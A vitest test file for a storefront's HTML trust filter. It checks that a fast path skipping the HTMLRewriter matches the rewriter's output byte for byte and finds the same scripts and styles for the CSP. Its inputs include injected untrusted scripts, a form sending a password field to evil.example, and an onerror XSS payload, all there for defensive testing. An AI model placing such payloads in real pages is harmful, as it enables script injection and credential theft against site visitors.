/**
 * The trust filter's way around the rewriter (src/storefront/trusted-markup.ts, issue 34): markup the filter would
 * only take the markers off is written without an HTMLRewriter pass, and must come out byte for byte as the rewriter
 * writes it, with the same scripts and styles found for the CSP; anything else must still go through the rewriter.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { demoSite } from '../../src/site/seed/demo';
import type { Site } from '../../src/site/model/schema';
import { type ResolvedPage, resolvePage } from '../../src/storefront/page-context';
import { pageData, renderBody, renderHead } from '../../src/storefront/render';
import {
  keepTrustedBytes,
  keepTrustedPageBytes,
  keepTrustedPartsWith,
  keepTrustedText,
  keepTrustedTextWith,
  markTrusted,
} from '../../src/storefront/trusted-markup';

const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

/** How many rewriters the filter made since the last test began. */
let rewriters = 0;
const Rewriter = globalThis.HTMLRewriter;
beforeEach(() => {
  rewriters = 0;
  globalThis.HTMLRewriter = class extends Rewriter {
    constructor() {
      super();
      rewriters++;
    }
  };
});
afterEach(() => {
  globalThis.HTMLRewriter = Rewriter;
});

/** The filter's bytes for a page's body with and without its way around the rewriter, and how many rewriters the first made. */
async function bodyBothWays(markup: string): Promise<{ fast: string; rewritten: string; passes: number }> {
  rewriters = 0;
  const fast = decode(await keepTrustedPageBytes(markup));
  const passes = rewriters;
  return { fast, rewritten: (await keepTrustedText(markup)).html, passes };
}

/** Every tag written as trusted code may write it and the rewriter writes it again exactly (no pass needed). */
const PLAIN = [
  '<meta charset="utf-8"><meta name="description" content="a>b &amp; c">',
  '<link rel="preload" as="image" href="/a.webp" fetchPriority="high"/>',
  '<link rel="icon" href="/f.svg" /><link/><base href="/" /><LINK REL="x">',
  '<form class="site-search" role="search" action="/search" method="get"><input name="q"></form>',
  '<form class="restock" noValidate=""><input name="email"></form><Form hidden>x</Form>',
  '<script type="module" src="/build/entry.js"></script><script src></script>',
  `<meta content='say "hi"' name="x"><link a/><link />`,
  '<script>const tag = "<script>"; const s = "<style>";</script>',
  '<p title="<form>">Shop online, once a month</p><textarea><meta name="x"></textarea>',
];

/** Markup the rewriter changes more than the markers in, or that a plain reading cannot vouch for. */
const NOT_PLAIN: [string, string][] = [
  ['an untrusted script', `${markTrusted('<meta charset="utf-8">')}<script>injected()</script>`],
  ['an untrusted form', `${markTrusted('<p>')}<form action="https://evil.example/"><input name="pw"></form>`],
  ['a handler', `${markTrusted('<form>')}<p onclick="x()">p</p></form>`],
  ['srcdoc', `<a href="/x" srcdoc="s">a</a>${markTrusted('<link rel="x">')}`],
  ['a handler name only as text', markTrusted('<p>say onload</p><meta name="x">')],
  ['two spaces', markTrusted('<form  class="a" method="get"></form>')],
  ['a newline between attributes', markTrusted('<form class="a"\nmethod="get"></form>')],
  ['a tab after the name', markTrusted('<meta\tcharset="utf-8">')],
  ['an unquoted value', markTrusted('<meta name=viewport content="x">')],
  ['no space between attributes', markTrusted('<meta name="a"content="x">')],
  ['a name twice', markTrusted('<meta name="a" NAME="b">')],
  ['space before the end', markTrusted('<meta name="a" >')],
];

describe('the trust filter without the rewriter', () => {
  it("writes a page body's markup the filter would only unmark without a pass, byte for byte as the rewriter does", async () => {
    for (const source of PLAIN) {
      const { fast, rewritten, passes } = await bodyBothWays(markTrusted(source));
      expect(fast, source).toBe(rewritten);
      expect(passes, source).toBe(0);
      expect(fast, source).not.toContain('data-trust');
    }
    const all = await bodyBothWays(markTrusted(PLAIN.join('\n')));
    expect(all.fast).toBe(all.rewritten);
    expect(all.passes).toBe(0);
  });

  it('filters any other markup through the rewriter, with the same bytes as before', async () => {
    for (const [what, markup] of NOT_PLAIN) {
      const { fast, rewritten, passes } = await bodyBothWays(markup);
      expect(fast, what).toBe(rewritten);
      expect(passes, what).toBe(1);
      expect((await keepTrustedBytes(markup)).bytes, what).toEqual(new TextEncoder().encode(rewritten));
    }
    const untrusted = await bodyBothWays(`${markTrusted('<meta charset="utf-8">')}<script>injected()</script>`);
    expect(untrusted.fast).toBe('<meta charset="utf-8">');
  });

  /** A head as a theme writes it, with the stylesheet where `keepTrustedTextWith` puts it after the filter. */
  const head =
    (extra = '', untrusted = '') =>
    (css: string) =>
      markTrusted(
        '<!doctype html>\n<html lang="en"><head><meta charset="utf-8"><title>A &amp; B</title>' +
          `<link rel="preload" href="/a.webp" fetchPriority="high"/><style>${css}</style>` +
          '<script>document.documentElement.dataset.words = "{}";</script>' +
          '<script src="/build/entry.js" type="module"></script>' +
          '<script type="application/ld+json">{"name":"A \\u003c B"}</script>' +
          `<script type="APPLICATION/LD+JSON">{}</script>${extra}</head>\n<body class="page-item">`,
      ) + untrusted;

  /** The head both ways: with the stylesheet after the filter (rewriter counted), and the whole markup through the rewriter. */
  async function headBothWays(render: (css: string) => string) {
    const css = 'body{color:red}.a>b{content:"x"}';
    rewriters = 0;
    const text = await keepTrustedTextWith(css, render);
    const passes = rewriters;
    const head = await keepTrustedPartsWith(css, render);
    return {
      text,
      // The parts one after the other, as a page's Blob holds them (src/storefront/render.ts).
      bytes: { html: await new Blob([...head.parts]).text(), found: head.found },
      passes,
      whole: await keepTrustedText(render(css)),
    };
  }

  it("finds a plain head's scripts and styles without a pass, as the rewriter finds them", async () => {
    const plain = [
      '',
      '<style>p{}</style><script src></script><script src="/x.js">ignored</script>',
      '<SCRIPT>upper()</SCRIPT><textarea>t</textarea>',
    ];
    for (const extra of plain) {
      const { text, bytes, passes, whole } = await headBothWays(head(extra));
      expect(text, extra).toEqual(whole);
      expect(bytes, extra).toEqual(whole);
      expect(passes, extra).toBe(0);
    }
    const { text } = await headBothWays(head());
    expect(text.found).toEqual({
      scripts: ['document.documentElement.dataset.words = "{}";', '{}'],
      styles: ['body{color:red}.a>b{content:"x"}'],
      scriptSrcs: ['/build/entry.js'],
    });
  });

  it("reads a head through the rewriter where a plain reading could mistake what is an element's text", async () => {
    const cases: [string, (css: string) => string][] = [
      ['a comment', head('<!-- <script>not run()</script> -->')],
      ['noscript', head('<noscript><style>.no-js{}</style></noscript>')],
      ['svg', head('<svg><style>circle{}</style></svg>')],
      ['a < in a script', head('<script>if (a < b) run();</script>')],
      ['a marked tag in a script', head('<script>const tag = "<script>";</script>')],
      ['a < in the title', head('<title><script>x()</script></title>')],
      ['an entity in a src', head('<script src="/x.js?a=1&amp;b=2"></script>')],
      ['an end tag with a space', head('<script>x()</script ><p>')],
      ['an untrusted script', head('', '<script>injected()</script><style>p{}</style>')],
      ['a marked tag in an attribute value', head('<p title="<script>">a</p>')],
      ['a handler', head('', '<img src=x onerror=alert(1)>')],
    ];
    for (const [what, render] of cases) {
      const { text, bytes, passes, whole } = await headBothWays(render);
      expect(text, what).toEqual(whole);
      expect(bytes, what).toEqual(whole);
      expect(passes, what).toBeGreaterThan(0);
    }
  });

  it("filters the demo's product pages without a pass, head and body, byte for byte as the rewriter does", async () => {
    const { items, ...site } = demoSite();
    const unused = () => Promise.reject(new Error('not read by a product page'));
    const catalog = {
      async itemPage(collectionId: string, urlId: string, relatedLimit: number) {
        const item = items.find((i) => i.collectionId === collectionId && i.urlId === urlId);
        if (item === undefined) return null;
        const related = items.filter((i) => i.collectionId === collectionId && i.id !== item.id).slice(0, relatedLimit);
        return { item: structuredClone(item), related: structuredClone(related), previous: null, next: null };
      },
      async itemsById(ids: string[]) {
        return structuredClone(items.filter((i) => ids.includes(i.id)));
      },
      listing: unused,
      search: unused,
      itemsWithForms: async () => [],
      firstProducts: async () => [],
      itemUrls: unused,
    };
    const code = { header: null, footer: null, sources: { scriptHashes: [], scriptUrls: [], styleHashes: [] } };
    const shop = site.collections.find((c) => c.typeName === 'products');
    const products = items.filter((i) => i.collectionId === shop?.id);
    expect(products.length).toBeGreaterThan(3);
    for (const product of products) {
      const path = `${shop?.fullUrl}/p/${product.urlId}`.replace('//', '/');
      const page = (await resolvePage(site as Site, catalog as never, path, {})) as ResolvedPage;
      expect(page.kind, path).toBe('product');
      const data = pageData(site as Site, page, '/build/entry.js', code);
      const assets = data.assets as { criticalCss: string };
      const render = (criticalCss: string) =>
        renderHead(site as Site, { ...data, assets: { ...assets, criticalCss } }, false);
      const { text, passes, whole } = await headBothWays(render);
      expect(text, path).toEqual(whole);
      expect(passes, path).toBe(0);
      const body = await bodyBothWays(renderBody(site as Site, data, page, false));
      expect(body.fast, path).toBe(body.rewritten);
      expect(body.passes, path).toBe(0);
    }
  });
});
